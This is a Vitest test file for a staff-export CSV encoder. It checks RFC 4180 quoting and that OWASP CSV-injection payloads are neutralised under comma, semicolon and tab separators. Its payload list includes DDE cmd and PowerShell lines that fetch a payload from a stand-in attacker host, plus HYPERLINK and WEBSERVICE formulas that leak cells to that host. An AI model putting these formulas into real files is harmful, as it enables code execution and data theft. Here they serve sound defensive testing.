// @vitest-environment node
// CSV cells for the staff export: RFC 4180 quoting, and no cell a spreadsheet would run as a formula, whichever of
// ',', ';' or tab it takes as the separator: the OWASP CSV-injection payloads, alone and after each separator.
import { describe, expect, it } from 'vitest';
import { csvCell, toCsv } from './csv';

/**
 * OWASP's CSV injection payloads (owasp.org/www-community/attacks/CSV_Injection) and the data-leaking formulas of
 * Sheets and Excel (HYPERLINK, IMPORTXML, IMPORTRANGE, IMAGE, WEBSERVICE), with the review's `Ann;=HYPERLINK(…);`.
 */
const payloads = [
  `=cmd|' /C calc'!A0`,
  `=cmd|' /C notepad'!'A1'`,
  `=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0`,
  `=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1`,
  `@SUM(1+9)*cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `+2+3+cmd|' /C calc'!A0`,
  `=10+20+cmd|' /C calc'!A0`,
  `DDE ("cmd";"/C calc";"!A0")A0`,
  `=HYPERLINK("http://attacker.example/?leak="&A1&A2,"Error: please click for further information")`,
  `=IMPORTXML(CONCAT("http://attacker.example/?v=",CONCATENATE(A2:E2)),"//a")`,
  `=IMPORTRANGE("https://docs.google.com/spreadsheets/d/x","sheet1!A2:E2")`,
  `=IMAGE("https://attacker.example/pixel.png")`,
  `=WEBSERVICE("http://attacker.example/?"&A1)`,
  `Ann;=HYPERLINK("http://attacker.example","Click");`,
  `Ann;=WEBSERVICE("http://attacker.example/?"&A1);`,
  `\t=1+1`,
  `\r=1+1`,
  `\n=1+1`,
  `  =1+1`,
  `＝1+1`,
  `＋1+1`,
  `＠SUM(A1)`,
];

/** Each payload alone, and after a name and each separator a spreadsheet may use. */
const hostile = payloads.flatMap((payload) => [
  payload,
  `Ann,${payload}`,
  `Ann;${payload}`,
  `Ann\t${payload}`,
  `Ann\r\n${payload}`,
]);

/**
 * A CSV line as a spreadsheet's import reads it with `separator`: a field that starts with a quote runs to the closing
 * quote (doubled quotes are one), anything after it up to the separator is kept; other fields run to the separator.
 */
function importLine(line: string, separator: string): string[] {
  const cells: string[] = [];
  let index = 0;
  while (index <= line.length) {
    let cell = '';
    if (line[index] === '"') {
      index += 1;
      while (index < line.length) {
        if (line[index] === '"' && line[index + 1] === '"') {
          cell += '"';
          index += 2;
        } else if (line[index] === '"') {
          index += 1;
          break;
        } else cell += line[index++];
      }
    }
    while (index < line.length && line[index] !== separator) cell += line[index++];
    cells.push(cell);
    index += 1;
  }
  return cells;
}

/** The records of a CSV document read with ',': lines split on CRLF outside quotes. */
function records(csv: string): string[] {
  const lines: string[] = [];
  let current = '';
  let quoted = false;
  for (let index = 0; index < csv.length; index += 1) {
    const character = csv[index]!;
    if (character === '"') quoted = !quoted;
    if (!quoted && character === '\r' && csv[index + 1] === '\n') {
      lines.push(current);
      current = '';
      index += 1;
    } else current += character;
  }
  if (current) lines.push(current);
  return lines;
}

/**
 * Every cell any importer could make of the document with `separator`, taking the worst of each choice: lines broken
 * at every line break (quoted or not) and cells at every separator (quoted or not).
 */
function worstCaseCells(csv: string, separator: string): string[] {
  return csv.split(/\r\n|\r|\n/).flatMap((line) => line.split(separator));
}

/**
 * A cell a spreadsheet would run: past the spaces, tabs, line breaks and quotes an importer may drop, a formula
 * character (an E.164 number is a number).
 */
function runsAsFormula(cell: string): boolean {
  if (/^\+[1-9]\d{6,14}$/.test(cell)) return false;
  return /^[\s\u00a0\u3000"]*[=+\-@＝＋－＠﹢﹣﹦]/u.test(cell);
}
describe('csvCell', () => {
  it.each([
    ['plain', 'plain'],
    ['a,b', '"a,b"'],
    ['a;b', '"a;b"'],
    ['a\tb', '"a\tb"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    ['cr\rhere', '"cr\rhere"'],
    ['=1+1', "'=1+1"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=cmd', `"\t'=cmd"`],
    ['  =1+1', "  '=1+1"],
    ['＝1+1', "'＝1+1"],
    ['=HYPERLINK("http://x","y")', `"'=HYPERLINK(""http://x"",""y"")"`],
    ['=A1,B1', `"'=A1,B1"`],
    ['=A1,=B1', `"'=A1,'=B1"`],
    ['Ann;=HYPERLINK("http://x");', `"Ann;'=HYPERLINK(""http://x"");"`],
    ['Ann; "=1+1"', `"Ann; ""'=1+1"""`],
    ['Ann\n@SUM(A1)', `"Ann\n'@SUM(A1)"`],
    ['Part B, $202.90', '"Part B, $202.90"'],
    ['a=b', 'a=b'],
    ['', ''],
  ])('writes %j as %j', (value, cell) => {
    expect(csvCell(value)).toBe(cell);
  });

  it('writes an E.164 phone number as it is, for a dialer; any other + start is neutralised', () => {
    expect(csvCell('+12055550147')).toBe('+12055550147');
    expect(csvCell('+1 205 555 0147')).toBe("'+1 205 555 0147");
    expect(csvCell('+1+1')).toBe("'+1+1");
    expect(csvCell('+12055550147;=1+1')).toBe(`"'+12055550147;'=1+1"`);
  });

  it('shows hidden characters as their code point', () => {
    expect(csvCell('invoice\u202Efdp.exe')).toBe('invoice[U+202E]fdp.exe');
    expect(csvCell('Ma\u200Bry\uFEFF')).toBe('Ma[U+200B]ry[U+FEFF]');
    expect(csvCell('=\u200B1+1')).toBe("'=[U+200B]1+1");
  });

  it('writes empty, numbers, booleans and ISO dates', () => {
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell(true)).toBe('true');
    expect(csvCell(new Date('2026-10-20T14:03:05.123Z'))).toBe('2026-10-20T14:03:05.123Z');
  });
});

describe('toCsv against the OWASP CSV-injection payloads', () => {
  const columns = [
    { header: 'id', value: (row: { name: string; phone: string }) => `id-${row.name.length}` },
    { header: 'name', value: (row: { name: string; phone: string }) => row.name },
    { header: 'phone', value: (row: { name: string; phone: string }) => row.phone },
    { header: 'topic', value: (row: { name: string; phone: string }) => row.name },
  ];
  const csv = toCsv(
    columns,
    hostile.map((name) => ({ name, phone: '+12055550147' })),
  );

  it.each([
    [',', 'comma'],
    [';', 'semicolon'],
    ['\t', 'tab'],
  ])(
    'opened with %j (%s) as the separator, no cell runs as a formula, however the quotes are read',
    (separator) => {
      const rows = records(csv);
      expect(rows).toHaveLength(hostile.length + 1);
      expect(rows.flatMap((row) => importLine(row, separator)).filter(runsAsFormula)).toEqual([]);
      expect(worstCaseCells(csv, separator).filter(runsAsFormula)).toEqual([]);
    },
  );

  it('opened with a comma, every cell is the value, with an apostrophe before each formula start only', () => {
    const rows = records(csv).slice(1);
    rows.forEach((row, index) => {
      const [, name, phone, topic] = importLine(row, ',');
      const value = hostile[index]!;
      expect(name!.replace(/'(?=[=+\-@＝＋－＠])/gu, '')).toBe(value);
      expect(topic).toBe(name);
      expect(phone).toBe('+12055550147');
    });
  });

  it('the review’s own example, opened with ";": the HYPERLINK is text', () => {
    const line = toCsv(
      [
        { header: 'id', value: () => 'id-1' },
        { header: 'name', value: (row: string) => row },
      ],
      ['Ann;=HYPERLINK("http://x");'],
    ).split('\r\n')[1]!;
    expect(line).toBe(`id-1,"Ann;'=HYPERLINK(""http://x"");"`);
    expect(importLine(line, ';')).toEqual(['id-1,"Ann', `'=HYPERLINK(""http://x"")`, '']);
  });

  it('writes a header and one CRLF-terminated line per row', () => {
    expect(
      toCsv(
        [
          { header: 'name', value: (row: { name: string; n: number }) => row.name },
          { header: 'n', value: (row) => row.n },
        ],
        [
          { name: 'Ann', n: 1 },
          { name: '=evil()', n: 2 },
        ],
      ),
    ).toBe("name,n\r\nAnn,1\r\n'=evil(),2\r\n");
  });
});
